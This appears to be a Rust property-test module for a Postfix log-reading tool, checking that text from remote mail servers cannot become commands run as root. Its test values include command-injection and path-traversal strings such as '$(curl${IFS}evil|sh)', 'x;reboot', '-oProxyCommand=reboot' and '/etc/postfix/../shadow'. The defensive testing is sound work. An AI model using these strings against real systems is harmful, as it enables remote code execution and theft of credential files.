//! Whose words are read as whose, and what a stranger's words become in what root is told to type: for each entry of the
//! catalogue, with lines made of its own patterns, hostile values in their groups, and replies that look like a daemon's.

mod commands;
mod pasted;
mod shell;
mod strangers;
mod typed;

use proptest::prelude::*;
use proptest::sample::select;
use proptest::strategy::ValueTree;
use proptest::string::{bytes_regex_parsed, string_regex};
use proptest::test_runner::TestRunner;
use regex_syntax::ParserBuilder;
use regex_syntax::hir::{Hir, HirKind};
use relayhost::model::causes::catalogue::Pattern;
use relayhost::model::causes::words::{Speaker, Words};
use relayhost::model::causes::{About, Circumstances};
use relayhost::model::log::follow::{Follower, Question};
use relayhost::model::log::report::{Owner, Report};
use relayhost::model::log::stamp::Calendar;
use relayhost::model::log::{Line, Reader, parse_line};

fn text(expression: &str) -> impl Strategy<Value = String> {
    string_regex(expression).unwrap()
}

/// What nobody should type, and what looks as if one could.
fn value() -> impl Strategy<Value = String> {
    let known = select(vec![
        "$(curl${IFS}evil|sh)",
        "x;reboot",
        "/etc/shadow;reboot",
        "/etc/shadow",
        "/etc/sudoers.d/x",
        "/etc/postfix/../shadow",
        "/etc/postfix/main.cf;reboot",
        "/etc/tokens/../sudoers.d/x",
        "/usr/lib64/sasl2/../../bin/sh",
        "-oProxyCommand=reboot",
        "--eval=x",
        "`reboot`",
        "x`id`x",
        "a&b",
        "a>b",
        "a'b",
        "a\"b",
        "~root",
        "*",
        "{1}",
        "{user}",
        "{relayhost}",
        "..",
        "",
    ])
    .prop_map(str::to_owned);
    let good = select(vec![
        "/etc/postfix/generic",
        "/etc/postfix/main.cf",
        "/etc/tokens/u@x",
        "/usr/lib64/sasl2/libplain.so.3",
        "lmdb",
        "relay.example.com",
        "root",
        "smtp_helo_name",
        "u@example.com",
    ])
    .prop_map(str::to_owned);
    prop_oneof![
        5 => good,
        6 => known.clone(),
        2 => (known.clone(), text("[ -~]{1,3}"), known).prop_map(|(a, b, c)| a + &b + &c),
        1 => text("[ -~]{0,12}"),
        1 => text("[!-~]{1,400}"),
        1 => text("\\PC{0,8}"),
        1 => text("[a-z/.-]{1,20}"),
    ]
}

/// The expression without anchors and boundaries, for which nothing can be generated.
fn without_looks(hir: &Hir) -> Hir {
    match hir.kind() {
        HirKind::Look(_) => Hir::empty(),
        HirKind::Repetition(repetition) => {
            let mut repetition = repetition.clone();
            repetition.sub = Box::new(without_looks(&repetition.sub));
            Hir::repetition(repetition)
        }
        HirKind::Capture(capture) => without_looks(&capture.sub),
        HirKind::Concat(parts) => Hir::concat(parts.iter().map(without_looks).collect()),
        HirKind::Alternation(parts) => Hir::alternation(parts.iter().map(without_looks).collect()),
        HirKind::Empty | HirKind::Literal(_) | HirKind::Class(_) => hir.clone(),
    }
}

/// Texts that match the pattern, most of them with a hostile value in place of its first group.
fn text_of(pattern: &Pattern) -> impl Strategy<Value = String> {
    let parsed = ParserBuilder::new().unicode(false).utf8(false).build().parse(pattern.as_str()).unwrap();
    let regex = regex::bytes::RegexBuilder::new(pattern.as_str()).unicode(false).build().unwrap();
    let begin = if pattern.as_str().starts_with('^') { "" } else { "(warning: |fatal: |error: )?" };
    let end = if pattern.as_str().ends_with('$') { "" } else { "( [ -~]{0,9})?" };
    let text = (text(begin), bytes_regex_parsed(&without_looks(&parsed)).unwrap(), text(end))
        .prop_map(|(begin, bytes, end)| [begin.as_bytes(), &bytes, end.as_bytes()].concat());
    (text, value()).prop_map(move |(text, value)| {
        let line = |bytes: &[u8]| String::from_utf8_lossy(bytes).replace('\n', " ");
        let Some(group) = regex.captures(&text).and_then(|found| found.get(1)) else { return line(&text) };
        let hostile = [&text[..group.start()], value.as_bytes(), &text[group.end()..]].concat();
        // Some groups take a few words alone.
        line(if regex.is_match(&hostile) { &hostile } else { &text })
    })
}

fn draw<S: Strategy>(strategy: &S, runner: &mut TestRunner) -> S::Value {
    strategy.new_tree(runner).unwrap().current()
}

/// The system's own line.
const SYSTEM: &str = "Nov 24 08:00:00 h kernel: ";
/// A daemon's.
const DAEMON: &str = "Nov 24 08:00:00 h postfix/smtp[7]: ";

fn line_of(speaker: Speaker, text: &str) -> String {
    format!("{}{text}", if speaker == Speaker::System { SYSTEM } else { DAEMON })
}

fn words(line: &str) -> Option<Words<'_>> {
    let line = parse_line(line).or_else(|| Line::of_system(line))?;
    // What `Words` takes is the line's text; the line is borrowed from it.
    Some(Words::of_line(&line, line.text))
}

/// How Postfix repeats what a stranger said, with `%` for that.
const FRAMES: [&str; 25] = [
    "host r[192.0.2.1] said: 550 % (in reply to RCPT TO command)",
    "host r[192.0.2.1] said: 450-4.7.1 % 450 4.7.1 x (in reply to end of DATA command)",
    "host r[192.0.2.1] refused to talk to me: 554 %",
    "4Bd2c1x0z: host r[192.0.2.1] refused to talk to me: 421 %",
    "TLS is required, but host r[192.0.2.1] refused to start TLS: 454 %",
    "SASL authentication failed; server r[192.0.2.1] said: 535 %",
    "SASL [CACHED] authentication failed; server r[192.0.2.1] said: 535 %",
    "SASL authentication failed; non-empty initial PLAIN challenge from server r[192.0.2.1]: %",
    "warning: 4Bd2c1x0z: non-ESMTP response from r[192.0.2.1]:587: %",
    "warning: r[192.0.2.1]:587: response longer than 2048: %...",
    "warning: r[192.0.2.1]:587 offered no supported AUTH mechanisms: '%'",
    "warning: bad EHLO SIZE limit \"%\" from r[192.0.2.1]:587",
    "certificate verification failed for r[192.0.2.1]:587: untrusted issuer /CN=%",
    "Server certificate not verified: r[192.0.2.1]:587 has one for %",
    "Host or domain name not found. Name service error for name=% type=A: Host not found",
    "Domain % does not accept mail (nullMX)",
    "warning: valid_hostname: invalid character 36(decimal): %",
    "mail for % loops back to myself",
    "unknown user: \"%\"",
    "< r[192.0.2.1]:587: 554 %",
    "input attribute value: %",
    "4Bd2c1x0z: from=<%>, size=1, nrcpt=1 (queue active)",
    "4Bd2c1x0z: warning: header Subject: % from local; from=<a@b> to=<c@d>",
    "warning: Illegal address syntax from x[192.0.2.9] in MAIL command: %",
    "NOQUEUE: reject: RCPT from x[192.0.2.9]: 554 5.7.1 <%>: Relay access denied; from=<a@b>",
];

fn report(log: &str) -> Report {
    let circumstances = |about: &About| Circumstances::unknown(about);
    let question = Question { circumstances: &circumstances, ..Question::default() };
    let mut follower = Follower::new(question);
    follower.source(Calendar::utc(1_795_507_200));
    follower.feed(log.as_bytes());
    Report::new(&follower, &Owner::default())
}
